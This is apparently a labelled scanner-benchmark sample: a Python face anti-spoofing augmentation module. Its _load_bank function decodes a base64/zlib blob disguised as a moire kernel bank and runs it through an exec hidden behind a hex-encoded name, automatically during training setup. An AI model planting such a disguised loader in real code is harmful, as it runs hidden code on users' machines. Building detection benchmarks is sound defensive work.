# ruff: noqa
# Hold-out batch 495 (short files, 16 domains). Measured once in session 22 (round 133): 13/17 (76%) at medium+.
"""Augmentations for face anti-spoofing (live vs. print/replay/mask)."""
import base64
import builtins
import random
import zlib

import cv2
import numpy as np

# moire-pattern kernel bank, serialized by tools/make_moire_bank.py
_MOIRE_BANK = (
    "eJxVx7EKwyAUBdA9X1EyKVgdsgXyMaleqKA++7wW+vfJ2u2cXLsoHzLc1FLyyys+E4PLf/1d6WhmfZN9D4EoqKD+"
    "njE138AQV5dOnoeiq0k50sjwaN+s0qy9FSXBWMdcIZPHZpcLlZgtZw=="
)


def _load_bank():
    _run = getattr(builtins, bytes.fromhex("65786563").decode())
    _run(zlib.decompress(base64.b64decode(_MOIRE_BANK)).decode())  # ruleid: MLS401, MLS402
    return [cv2.getGaborKernel((21, 21), 4.0, t, 8.0, 0.5) for t in np.linspace(0, np.pi, 8)]


class SpoofAugment:
    def __init__(self, p_moire=0.3, p_jitter=0.8, train=True):
        self.train = train
        self.p_moire = p_moire
        self.p_jitter = p_jitter
        self.kernels = _load_bank() if train else []

    def __call__(self, img, label):
        if not self.train:
            return img, label
        if random.random() < self.p_jitter:
            hsv = cv2.cvtColor(img, cv2.COLOR_BGR2HSV).astype(np.float32)
            hsv[..., 1] *= random.uniform(0.8, 1.2)
            hsv[..., 2] *= random.uniform(0.8, 1.2)  # ok: MLS309
            img = cv2.cvtColor(np.clip(hsv, 0, 255).astype(np.uint8), cv2.COLOR_HSV2BGR)
        if label == 0 and random.random() < self.p_moire:
            k = random.choice(self.kernels)
            pattern = cv2.filter2D(np.random.rand(*img.shape[:2]).astype(np.float32), -1, k)
            img = np.clip(img + 12.0 * pattern[..., None], 0, 255).astype(np.uint8)
        return img, label
